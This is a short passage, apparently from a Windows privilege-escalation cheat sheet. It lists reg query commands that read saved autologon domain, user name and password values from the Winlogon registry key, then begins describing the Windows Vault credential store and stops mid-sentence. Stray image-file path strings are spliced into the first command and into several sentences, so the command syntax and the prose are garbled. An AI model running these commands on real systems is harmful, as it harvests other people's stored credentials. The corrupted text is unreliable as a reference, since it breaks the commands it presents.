reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /vAltDefaultDomainName
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v AltDefaultUserName
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v AltDefaultPassword

Credentials manager / Windowsvault

From The Windows Vault stores user credentials for servers, websites and other programs that Windows can log in the users automatically. At first instance, this might look like now users can store their Facebook credentials, Twitter credentials, Gmail credentials etc., so that theyautomatically log invia browsers. But it is not so